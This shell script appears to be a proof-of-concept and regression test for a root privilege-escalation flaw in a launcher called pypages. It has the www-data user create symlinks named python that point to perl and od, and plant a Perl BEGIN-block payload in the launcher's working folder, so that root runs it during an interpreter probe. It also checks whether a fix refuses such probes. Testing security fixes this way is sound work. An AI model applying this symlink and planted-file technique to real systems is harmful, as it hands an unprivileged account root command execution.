#!/bin/sh
# R2: the launcher's interpreter probe runs, as root, ANY root-owned program reached through
# a link whose own name is python*: rootTrusted() accepts when the link's name OR the target's
# matches. The server child (www-data) makes /tmp/X/python -> /usr/bin/perl (or od) and asks
# for a probe: root runs `perl -c 'import sys; print(...)...'`, and perl -c runs the BEGIN
# blocks of the file of that name in the launcher's working folder (the supervisor's: where
# the operator started pypages). When that folder is one www-data can write, that is root.
# od shows the same without any writable folder: root ran od, not Python.
set -eu
here=$(cd "$(dirname "$0")" && pwd)
script='import sys; print("%d.%d.%d" % tuple(sys.version_info[:3])); print(sys.executable)'
links=$(mktemp -d /tmp/rv-links-XXXXXX); chown www-data "$links"; chmod 755 "$links"
cwd=$(mktemp -d /tmp/rv-cwd-XXXXXX); chmod 777 "$cwd"   # where pypages was started
# CWD_MODE=755 (after the fix, pypages refuses a working folder others may write): the folder is root's,
# the planted file stands for anything there; the probe of the links must then be refused.
su -s /bin/sh www-data -c "mkdir $links/a $links/b; ln -s /usr/bin/perl $links/a/python; ln -s /usr/bin/od $links/b/python3"
su -s /bin/sh www-data -c "printf '%s\n' 'BEGIN { system(\"id > $cwd/pwned\") }' > '$cwd/$script'"
req=$(mktemp /tmp/rv-req-XXXXXX)
trap 'rm -rf "$req" "$links" "$cwd"' EXIT
cat >"$req" <<J
[{"pypages":"probe","id":1,"file":"$links/a/python"},{"pypages":"probe","id":2,"file":"$links/b/python3"}]
J
chmod "${CWD_MODE:-777}" "$cwd"
RUN_CWD=$cwd "$here/run-hostile.sh" "$req"
echo "--- $cwd/pwned:"; cat "$cwd/pwned" || echo "(none)"
